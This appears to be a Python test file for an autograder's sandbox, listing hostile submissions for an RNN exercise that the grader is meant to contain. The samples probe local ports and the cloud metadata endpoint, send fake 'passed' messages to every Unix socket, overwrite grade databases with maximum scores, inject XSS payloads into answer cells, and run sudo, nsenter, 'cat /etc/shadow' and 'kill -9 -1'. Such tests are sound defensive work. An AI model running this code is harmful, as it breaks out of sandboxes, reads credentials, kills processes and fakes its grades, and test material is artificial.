"""Out of the sandbox."""

from tests.grading.hostile.making import (
    FULL,
    Hostile,
    change,
    right,
    source,
)
from tests.grading.hostile.shapes import sets_up, steps

ESCAPES = [
    steps(
        "calls_home",
        "asks this machine and the network for answers, and hands its work to others",
        """
            import socket, urllib.request
            for host, port in (("127.0.0.1", 8888), ("127.0.0.1", 8786), ("1.1.1.1", 53), ("example.com", 80)):
                try:
                    with socket.create_connection((host, port), timeout=0.3) as connection:
                        connection.sendall(b"GET /rnn_step HTTP/1.0\\r\\n\\r\\n")
                        return x @ U
                except OSError:
                    pass
            return urllib.request.urlopen("http://169.254.169.254/latest", timeout=0.3).read()
        """,
    ),
    sets_up(
        "local_sockets",
        "connects to whatever socket of the system it finds",
        """
            import glob, socket
            names = [line.split()[-1] for line in open("/proc/net/unix").read().splitlines()[1:]]
            for place in ("/run/**/*.sock", "/tmp/**/*", "/var/run/*"):
                names += glob.glob(place, recursive=True)
            for name in names:
                try:
                    with socket.socket(socket.AF_UNIX) as connection:
                        connection.settimeout(0.2)
                        connection.connect("\\0" + name[1:] if name.startswith("@") else name)
                        connection.sendall(b'{"passed": true}\\n')
                except OSError:
                    pass
        """,
    ),
    sets_up(
        "gradebook",
        "climbs from its folder upwards, takes other submissions, and gives itself points in every database",
        """
            import os, sqlite3, pathlib
            here = pathlib.Path.cwd()
            for folder in [here, *here.parents, pathlib.Path("/root"), pathlib.Path("/home"), pathlib.Path("/srv")]:
                try:
                    for path in [*folder.glob("*/*.db"), *folder.glob("*.db"), *folder.glob("*/*/*/*.ipynb")]:
                        if path.suffix == ".db":
                            with sqlite3.connect(path) as database:
                                database.execute("update grade set auto_score = max_score, manual_score = 100")
                        elif "def rnn_step" in path.read_text():
                            get_ipython().run_cell(path.read_text())
                except (OSError, sqlite3.Error):
                    pass
        """,
    ),
    Hostile(
        "script_in_words",
        "writes a script into its written answer, for whoever reads it",
        right(
            change(
                "cell_written",
                source(
                    "<script>fetch('/api/contents')</script> <img src=x onerror=alert(1)> [here](javascript:alert(1)) "
                    "<iframe srcdoc='<script>1</script>'></iframe> $\\href{javascript:alert(1)}{W}$"
                ),
            )
        ),
        FULL,
    ),
    sets_up(
        "other_programs",
        "starts programs that gain rights, mount, or look at other processes",
        """
            import subprocess
            for command in ("sudo -n id", "su -c id", "mount -t tmpfs x /mnt", "unshare -Ur id",
                            "nsenter -t 1 -a id", "ps aux", "cat /etc/shadow", "bwrap --bind / / id", "kill -9 -1"):
                try:
                    print(subprocess.run(command.split(), capture_output=True, timeout=2))
                except Exception as error:
                    print(error)
        """,
    ),
]
